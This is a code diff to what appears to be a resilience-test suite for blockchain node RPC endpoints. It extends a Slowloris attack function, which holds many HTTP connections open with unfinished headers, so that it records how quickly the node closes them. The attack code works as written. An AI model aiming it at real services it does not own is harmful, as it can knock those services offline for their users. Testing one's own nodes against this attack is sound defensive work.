@@ -65,12 +65,15 @@ export const RPC_ATTACKS: Record<string, Attack> = {
 const slowloris = (n: number, ms: number): Attack => async (c) => {
   if (c.rpcUrl === undefined) throw new Error('an RPC attack needs the node\'s rpcUrl')
   const { hostname, port } = new URL(c.rpcUrl)
+  const dialled = Date.now()
+  let lastClosedMs = 0
   const socks = await Promise.all(Array.from({ length: n }, () => new Promise<net.Socket>((resolve) => {
     const s = net.connect(Number(port), hostname, () => {
       s.write('POST / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ')
       resolve(s)
     })
     s.on('error', () => resolve(s))
+    s.once('close', () => { lastClosedMs = Math.max(lastClosedMs, Date.now() - dialled) })
     // Read what the node sends (a 408), so that its close is seen.
     s.resume()
   })))
@@ -84,8 +87,9 @@ const slowloris = (n: number, ms: number): Attack => async (c) => {
     await new Promise((res) => setTimeout(res, Math.max(0, 1_000 - (Date.now() - t))))
   }
   const open = socks.filter((s) => !s.destroyed && !s.readableEnded).length
+  const closedBy = open < n ? `, the node closed them within ${lastClosedMs} ms` : ''
   for (const s of socks) s.destroy()
-  return `${open} of ${n} slow HTTP clients (headers never ended) still open after ${ms} ms; a new client each second: ${fresh.join(' ')}`
+  return `${open} of ${n} slow HTTP clients (headers never ended) still open after ${ms} ms${closedBy}; a new client each second: ${fresh.join(' ')}`
 }
 
 /** eth_blockNumber on a connection of its own: 'ok', or 'refused' (closed, reset, no answer in `ms`). */
